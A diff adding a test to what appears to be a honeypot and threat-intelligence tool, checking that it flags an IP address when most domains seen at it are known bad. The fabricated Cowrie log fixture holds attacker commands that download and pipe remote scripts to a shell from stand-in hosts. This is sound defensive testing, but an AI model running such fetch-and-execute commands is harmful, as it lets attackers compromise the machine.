@@ -83,6 +83,40 @@ it('raises the name that a client found among generated ones, from a log to the 
   });
 });
 
+it('says of an address who is there: in the answer of the API, and on the line of why', {
+  timeout: 120_000,
+}, async () => {
+  const bad = ['update.kittens.example', 'cdn.puppies.example'];
+  const edges = join(system.folder, 'company.tsv');
+  const lines = [...bad, 'www.tulips.example'].map((name) => `${name}\t203.0.113.40`);
+  writeFileSync(edges, `domain\tip\n${lines.join('\n')}\n`);
+  const cowrie = join(system.folder, 'company.json');
+  const head = { src_ip: '192.0.2.7', session: 'cc01', sensor: 'd', protocol: 'ssh' };
+  const said = [
+    { eventid: 'cowrie.session.connect', src_port: 4, dst_ip: '198.51.100.1', dst_port: 22 },
+    { eventid: 'cowrie.login.success', username: 'root', password: 'x' },
+    ...bad.map((host) => ({ eventid: 'cowrie.command.input', input: `wget http://${host}/x -O- | sh` })),
+    { eventid: 'cowrie.session.closed', duration_ms: 4_000 },
+  ];
+  writeFileSync(
+    cowrie,
+    said
+      .map(
+        (one, n) =>
+          `${JSON.stringify({ timestamp: new Date(Date.now() - 60_000 + n).toISOString(), ...head, ...one })}\n`,
+      )
+      .join(''),
+  );
+  expect((await system.run('import', '--format', 'edges', edges)).code).toBe(0);
+  expect((await system.run('import', '--format', 'cowrie', cowrie)).code).toBe(0);
+  system.pipeline.domains.heard();
+  await system.pipeline.domains.rank({ limit: 1 });
+  const company = '2 of the 3 domains seen at it of late are known to be bad';
+  const [answer] = await system.ask<{ hosts: { host: string; company?: string }[] }>('why', '203.0.113.40');
+  expect(answer!.hosts[0]).toMatchObject({ host: '203.0.113.40', company });
+  expect((await system.run('why', '203.0.113.40')).out).toContain(`; ${company}`);
+});
+
 it('joins what decoys saw together, and says where addresses are, as often as it is asked to', () => {
   const graph = new Graph();
   const context = createContext(graph, () => model, { networks: true });
